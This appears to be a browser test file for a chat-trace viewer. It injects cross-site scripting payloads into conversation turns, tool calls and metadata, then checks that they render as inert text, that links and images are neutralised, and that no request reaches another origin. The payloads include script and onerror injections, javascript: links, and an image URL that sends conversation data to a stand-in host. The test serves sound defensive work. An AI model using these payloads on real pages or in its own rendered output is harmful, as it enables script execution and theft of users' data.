import { beforeAll, describe, expect, it } from "vitest";
import { chatSpans } from "./support/chat-spans.ts";
import { useViewerInBrowser } from "./support/viewer-in-browser.ts";

const viewer = useViewerInBrowser();

const payloads = [
  "<script>window.pwned = 1</script>",
  '<img src=x onerror="window.pwned = 1">',
  "<svg/onload=window.pwned=1>",
  "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
  "[click](javascript:window.pwned=1)",
  "[click](data:text/html,<script>opener.pwned=1</script>)",
  "![pixel](https://evil.example/steal?what=conversation)",
  "![pixel](/api/sessions)",
  "<a href='javascript:window.pwned=1'>click</a>",
  "<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
  "```js\n</code></pre><script>window.pwned = 1</script>\n```",
  '{"html":"<img src=x onerror=window.pwned=1>"}',
  "\u202Egnp.exe \u0000 \uD800",
];

/**
 * What a model, a user or an attribute says was written by strangers. The fixture also fails a
 * test whose page asks anything of another origin.
 */
describe("hostile content", () => {
  beforeAll(async () => {
    await viewer.send(
      chatSpans({
        sessionId: "hostile",
        userId: "<script>window.pwned=1</script>",
        project: '"><img src=x onerror=window.pwned=1>',
        system: payloads.join("\n\n"),
        turns: payloads.map((payload) => ({
          user: payload,
          assistant: payload,
          tool: { name: "<b onclick=window.pwned=1>tool</b>", arguments: payload, result: payload },
        })),
      }),
    );
  });

  it("stays text in the list", async () => {
    const page = await viewer.open("/");
    await page.getByRole("link", { name: "<script>window.pwned = 1</script>" }).waitFor();
    expect(await page.evaluate("window.pwned")).toBeUndefined();
  });

  it("stays text in the conversation, its tool calls and its spans", async () => {
    const page = await viewer.open("/sessions/hostile", { viewport: { width: 1440, height: 9_000 } });
    await page.getByRole("region", { name: `Turn ${payloads.length}` }).waitFor();
    for (const card of await page.locator("details").all()) await card.locator("summary").click();
    await page.getByRole("button", { name: "Trace of turn 2", exact: true }).click();
    await page.getByRole("treeitem", { name: /TOOL/ }).click();
    await page.getByRole("complementary", { name: "Inspector" }).getByText("input.value").waitFor();
    expect(await page.evaluate("window.pwned")).toBeUndefined();
    expect(await page.locator("main :is(script, iframe, style, link, img, object, embed)").count()).toBe(0);
  });

  it("has no link that runs code, and none that tells where it was clicked", async () => {
    const page = await viewer.open("/sessions/hostile", { viewport: { width: 1440, height: 9_000 } });
    await page.getByRole("region", { name: `Turn ${payloads.length}` }).waitFor();
    const links = await page.locator("main section a").all();
    const targets = await Promise.all(links.map((link) => link.getAttribute("href")));
    expect(targets.filter((target) => /^\s*(?:javascript|data|vbscript):/i.test(target ?? ""))).toEqual([]);
    const relations = await Promise.all(links.map((link) => link.getAttribute("rel")));
    expect(relations.every((relation) => relation?.includes("noopener noreferrer"))).toBe(true);
  });

  it("names images instead of loading them", async () => {
    const page = await viewer.open("/sessions/hostile", { viewport: { width: 1440, height: 9_000 } });
    const pictures = page.getByText("Image: pixel");
    await expect.poll(() => pictures.count()).toBeGreaterThanOrEqual(2);
  });
});
